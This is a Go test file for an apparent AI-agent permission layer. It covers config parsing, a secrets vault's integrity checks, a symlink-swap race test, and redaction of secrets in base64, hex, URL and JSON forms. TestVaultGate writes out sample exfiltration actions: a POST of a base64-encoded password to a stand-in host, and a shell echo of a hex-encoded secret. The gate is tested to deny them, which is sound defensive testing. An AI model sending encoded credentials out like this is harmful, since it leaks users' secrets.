package gates

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pp-lsp/internal/testenv"
)

func TestParseConfig(t *testing.T) {
	cfg, err := ParseConfig([]byte(`{"default":"deny","permissions":{"allow":["shell(make test)"],"deny":["shell(git push:*)"]},"network":{"allow":["api.github.com","*.example.com"]},"privacy":{"tags":["secret-diary"]},"limits":{"max_arg_bytes":1000,"tool_per_minute":{"send":3}}}`))
	require.NoError(t, err)
	assert.Equal(t, "deny", cfg.Default)
	assert.Equal(t, []string{"shell(make test)"}, cfg.Permissions.Allow)
	assert.Equal(t, []string{"secret-diary"}, cfg.Privacy.Tags)
	assert.Equal(t, 1000, cfg.Limits.MaxArgBytes)
	assert.Equal(t, DefaultConfig().Limits.MaxActionBytes, cfg.Limits.MaxActionBytes, "unset fields keep their defaults")
	assert.Equal(t, "ask", cfg.Network.Default)
}

func TestParseConfigErrors(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"unknown key", `{"defualt":"ask"}`, "defualt"},
		{"unknown nested key", `{"network":{"allowlist":[]}}`, "allowlist"},
		{"wrong type", `{"default":1}`, "default"},
		{"allow default", `{"default":"allow"}`, `"allow"`},
		{"bad rule", `{"permissions":{"allow":["browser(*)"]}}`, "unknown tool"},
		{"unclosed rule", `{"permissions":{"deny":["shell(rm"]}}`, "closing parenthesis"},
		{"empty pattern", `{"permissions":{"ask":["shell()"]}}`, "empty pattern"},
		{"bad host", `{"network":{"allow":["https://x.example/"]}}`, "host pattern"},
		{"bad tag", `{"privacy":{"tags":["a b"]}}`, "Org tag"},
		{"bad limit", `{"limits":{"max_arg_bytes":0}}`, "positive"},
		{"bad tool limit", `{"limits":{"tool_per_minute":{"browser":1}}}`, "unknown tool"},
		{"trailing", `{} {}`, "trailing"},
		{"not json", `nope`, "is not valid JSON: line 1, column 2"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ParseConfig([]byte(tc.in))
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.want)
			assert.Contains(t, err.Error(), "gates configuration")
		})
	}
}

func TestLoadConfig(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "config.json")
	require.NoError(t, os.WriteFile(path, []byte(`{"providers":{"whatever":true},"gates":{"default":"deny"}}`), 0o644))
	cfg, err := LoadConfig(path)
	require.NoError(t, err)
	assert.Equal(t, "deny", cfg.Default, "other sections are not the gates' business")

	require.NoError(t, os.WriteFile(path, []byte(`{"providers":{}}`), 0o644))
	cfg, err = LoadConfig(path)
	require.NoError(t, err)
	assert.Equal(t, DefaultConfig().Default, cfg.Default, "no gates section: the defaults")

	require.NoError(t, os.WriteFile(path, []byte(`[1]`), 0o644))
	_, err = LoadConfig(path)
	assert.ErrorContains(t, err, "not a JSON object")

	_, err = LoadConfig(filepath.Join(dir, "missing.json"))
	assert.ErrorContains(t, err, "missing.json")
}

func TestVaultIntegrity(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "vault.json")
	require.NoError(t, WriteVault(path, map[string]string{"openai": "sk-live-4f9a8b7c6d5e4f3a2b1c", "anthropic": "ak-9d8c7b6a5f4e3d2c"}))
	fi, err := os.Stat(path)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o600), fi.Mode().Perm())

	v, err := OpenVault(path)
	require.NoError(t, err)
	key, ok := v.Get("openai")
	assert.True(t, ok)
	assert.Equal(t, "sk-live-4f9a8b7c6d5e4f3a2b1c", key)
	assert.Equal(t, []string{"anthropic", "openai"}, v.Names())
	assert.Equal(t, "token [vault:openai] end", v.Redact("token sk-live-4f9a8b7c6d5e4f3a2b1c end"))

	t.Run("changed file is refused", func(t *testing.T) {
		// A secret changed by hand, the hash left as it was.
		p := filepath.Join(t.TempDir(), "vault.json")
		require.NoError(t, os.WriteFile(p, []byte(`{"version":1,"secrets":{"openai":"sk-other"},"sha256":"`+secretsHash(map[string]string{"openai": "sk-live"})+`"}`), 0o600))
		_, err = OpenVault(p)
		assert.ErrorIs(t, err, ErrVaultChanged)
	})
	t.Run("loose permissions are refused", func(t *testing.T) {
		p := filepath.Join(t.TempDir(), "vault.json")
		require.NoError(t, WriteVault(p, map[string]string{"a": "secret-value"}))
		require.NoError(t, os.Chmod(p, 0o644))
		_, err := OpenVault(p)
		assert.ErrorContains(t, err, "chmod 600")
	})
	t.Run("symlink is refused", func(t *testing.T) {
		p := filepath.Join(t.TempDir(), "vault.json")
		require.NoError(t, os.Symlink(path, p))
		_, err := OpenVault(p)
		assert.ErrorContains(t, err, "symlink")
	})
	t.Run("unknown field is refused", func(t *testing.T) {
		p := filepath.Join(t.TempDir(), "vault.json")
		require.NoError(t, os.WriteFile(p, []byte(`{"version":1,"secrets":{},"sha256":"`+secretsHash(nil)+`","extra":1}`), 0o600))
		_, err := OpenVault(p)
		assert.ErrorContains(t, err, "not a vault file")
	})
	t.Run("missing is not refused", func(t *testing.T) {
		_, err := OpenVault(filepath.Join(t.TempDir(), "none.json"))
		assert.ErrorIs(t, err, os.ErrNotExist)
	})
	t.Run("a FIFO is refused without waiting for a writer", func(t *testing.T) {
		p := filepath.Join(t.TempDir(), "vault.json")
		testenv.MakeFIFO(t, p)
		done := make(chan error, 1)
		go func() {
			_, err := OpenVault(p)
			done <- err
		}()
		select {
		case err := <-done:
			assert.ErrorContains(t, err, "not a regular file")
		case <-time.After(10 * time.Second):
			// Open a writer, so that the read ends and the test with it.
			if w, err := os.OpenFile(p, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
				w.Close()
			}
			t.Fatal("opening a FIFO as the vault hung")
		}
	})
	t.Run("a folder is refused", func(t *testing.T) {
		p := filepath.Join(t.TempDir(), "vault.json")
		require.NoError(t, os.Mkdir(p, 0o700))
		_, err := OpenVault(p)
		assert.ErrorContains(t, err, "not a regular file")
	})
}

// TestVaultPathSwappedMeanwhile: another local process swaps the vault's
// path, over and over, between the owner's vault and a symlink to another
// file that would pass every check (mode 0600, a valid hash). What is read
// is always the file checked: the owner's vault, or a refusal — never the
// secrets behind the symlink (the check and the open used to be two looks
// at the path).
func TestVaultPathSwappedMeanwhile(t *testing.T) {
	dir := t.TempDir()
	good, other := filepath.Join(dir, "good.json"), filepath.Join(dir, "other.json")
	require.NoError(t, WriteVault(good, map[string]string{"k": "the-owners-secret"}))
	require.NoError(t, WriteVault(other, map[string]string{"k": "someone-elses-secret"}))
	path := filepath.Join(dir, "vault.json")
	require.NoError(t, os.Link(good, path))
	stop := make(chan struct{})
	swapped := make(chan error, 1)
	go func() {
		for i := 0; ; i++ {
			select {
			case <-stop:
				swapped <- nil
				return
			default:
			}
			tmp := filepath.Join(dir, fmt.Sprintf("swap-%d", i))
			var err error
			if i%2 == 0 {
				err = os.Symlink(other, tmp)
			} else {
				err = os.Link(good, tmp)
			}
			if err == nil {
				err = os.Rename(tmp, path)
			}
			if err != nil {
				swapped <- err
				return
			}
		}
	}()
	read, refused := 0, 0
	for range 20000 {
		v, err := OpenVault(path)
		if err != nil {
			require.ErrorContains(t, err, "symlink")
			refused++
			continue
		}
		got, _ := v.Get("k")
		require.Equal(t, "the-owners-secret", got, "the vault read is not the file checked")
		read++
	}
	close(stop)
	require.NoError(t, <-swapped)
	t.Logf("%d reads of the owner's vault, %d refusals of the symlink", read, refused)
}

func TestVaultGate(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "vault.json")
	secret := "hunter2-correct-horse-battery"
	require.NoError(t, WriteVault(path, map[string]string{"mail": secret}))
	v, err := OpenVault(path)
	require.NoError(t, err)
	stack, err := New(DefaultConfig())
	require.NoError(t, err)
	root := t.TempDir()
	env, err := stack.NewEnv(t.Context(), World{Roots: []string{root}, Home: t.TempDir(), Vault: v})
	require.NoError(t, err)
	defer env.Close()
	for name, a := range map[string]Action{
		"literal":     act(ToolMessage, "text", "the password is "+secret),
		"base64":      act(ToolHTTP, "method", "POST", "url", "https://x.example", "body", "cred=aHVudGVyMi1jb3JyZWN0LWhvcnNlLWJhdHRlcnk="),
		"hex":         act(ToolShell, "cmd", "echo 68756e746572322d636f72726563742d686f7273652d62617474657279", "cwd", "."),
		"url-escaped": act(ToolMessage, "text", "x=hunter2-correct-horse-battery"),
	} {
		got := stack.Check(t.Context(), a, env)
		assert.Equal(t, VerdictDeny, got.Verdict, name)
		assert.Equal(t, "vault", got.Gate, name)
		assert.NotContains(t, got.Reason, secret, "a reason never repeats the secret")
	}
	refused, err := stack.NewEnv(t.Context(), World{Roots: []string{root}, Home: t.TempDir(), VaultErr: ErrVaultChanged})
	require.NoError(t, err)
	defer refused.Close()
	got := stack.Check(t.Context(), act(ToolFileRead, "path", "x.org"), refused)
	assert.Equal(t, VerdictDeny, got.Verdict)
	assert.Equal(t, "vault", got.Gate)
}

// TestVaultRedactsEncodings: a vault secret is its mark in every form
// text may hold it in — as written, base64, hex, a URL's query and path,
// a JSON string by Go's encoder and by Python's (every non-ASCII rune
// escaped) — and text that only resembles it is kept.
func TestVaultRedactsEncodings(t *testing.T) {
	const secret = `wïfi "r<0>ut&r" \ k€y 42`
	path := filepath.Join(t.TempDir(), "vault.json")
	require.NoError(t, WriteVault(path, map[string]string{"wifi": secret}))
	v, err := OpenVault(path)
	require.NoError(t, err)
	goJSON, err := json.Marshal(secret)
	require.NoError(t, err)
	for name, form := range map[string]string{
		"as written": secret, "base64": base64.StdEncoding.EncodeToString([]byte(secret)), "hex": hex.EncodeToString([]byte(secret)),
		"query": url.QueryEscape(secret), "path": url.PathEscape(secret),
		"Go's JSON":     strings.Trim(string(goJSON), `"`),
		"Python's JSON": `w\u00effi \"r<0>ut&r\" \\ k\u20acy 42`,
	} {
		got := v.Redact("set " + form + " now")
		assert.Equal(t, "set [vault:wifi] now", got, name)
		leaked, ok := v.Leak("x" + form + "x")
		assert.True(t, ok, "the vault gate denies it %s", name)
		assert.Equal(t, "wifi", leaked)
	}
	twin := `wifi "router" \ key 42, w\u00effi`
	assert.Equal(t, twin, v.Redact(twin))
}

// BenchmarkVaultRedact: the vault's part of the redactor on a context's
// worth of text (16 KB) with five secrets stored, one of them with
// characters JSON and URLs escape (and so more forms to look for).
func BenchmarkVaultRedact(b *testing.B) {
	path := filepath.Join(b.TempDir(), "vault.json")
	require.NoError(b, WriteVault(path, map[string]string{"mail": "hunter2-correct-horse-battery", "wifi": `wïfi "r<0>ut&r" \ k€y 42`,
		"api": "sk-live-9f8e7d6c5b4a39281706", "db": "Tr0ub4dorQ3xZ", "pin": "8842-1123"}))
	v, err := OpenVault(path)
	require.NoError(b, err)
	var text strings.Builder
	for text.Len() < 16<<10 {
		text.WriteString("** TODO Call the plumber about the kitchen sink :home:\nHe said the valve (part 3f2a9c1) needs replacing; see [[https://example.com/valves?page=2][the catalogue]].\n")
	}
	s := text.String()
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		v.Redact(s)
	}
}

// TestVaultSecretsForRedaction: a vault OpenVault refuses still gives its
// secrets to redaction — edited by hand, readable by others, a symlink to
// one — and anything that is no vault's regular file gives none, a FIFO
// without blocking.
func TestVaultSecretsForRedaction(t *testing.T) {
	dir := t.TempDir()
	edited := filepath.Join(dir, "edited.json")
	require.NoError(t, os.WriteFile(edited, []byte(`{"version":1,"secrets":{"mail":"hunter2-by-hand"},"sha256":"`+secretsHash(nil)+`"}`), 0o600))
	loose := filepath.Join(dir, "loose.json")
	require.NoError(t, WriteVault(loose, map[string]string{"mail": "loose-secret-1"}))
	require.NoError(t, os.Chmod(loose, 0o644))
	link := filepath.Join(dir, "link.json")
	require.NoError(t, os.Symlink(edited, link))
	notJSON := filepath.Join(dir, "text.json")
	require.NoError(t, os.WriteFile(notJSON, []byte("not a vault\n"), 0o600))
	fifo := filepath.Join(dir, "fifo.json")
	testenv.MakeFIFO(t, fifo)
	for _, tc := range []struct {
		name, path, want string
	}{
		{"edited by hand", edited, "hunter2-by-hand"},
		{"readable by others", loose, "loose-secret-1"},
		{"a symlink to one", link, "hunter2-by-hand"},
		{"missing", filepath.Join(dir, "none.json"), ""},
		{"a folder", dir, ""},
		{"not a vault", notJSON, ""},
		{"a FIFO", fifo, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := VaultSecretsForRedaction(tc.path)
			if tc.want == "" {
				assert.Nil(t, v)
				return
			}
			require.NotNil(t, v)
			got, ok := v.Get("mail")
			assert.True(t, ok)
			assert.Equal(t, tc.want, got)
		})
	}
}
